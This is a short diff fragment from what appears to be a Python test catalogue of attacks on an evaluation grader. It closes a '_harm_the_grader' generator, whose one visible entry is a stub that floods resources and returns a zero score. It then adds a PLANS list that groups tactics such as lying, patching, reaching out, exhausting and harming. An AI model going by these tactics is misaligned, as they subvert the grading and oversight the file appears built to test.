@@ -1232,7 +1246,22 @@ def _harm_the_grader() -> Iterator[Attack]:
                     pass
         """,
         "flood()\nreturn 0.0",
-    )
+    ),
+]
+
+
+PLANS = [
+    *BORROWING,
+    *READING,
+    *LOOKING_AROUND,
+    *LYING,
+    *PATCHING,
+    *SPEAKING,
+    *REACHING_OUT,
+    *EXHAUSTING,
+    *OUTLIVING,
+    *HARMING,
+]
 
 
 # ---------------------------------------------------------------- breaking whoever reads the file
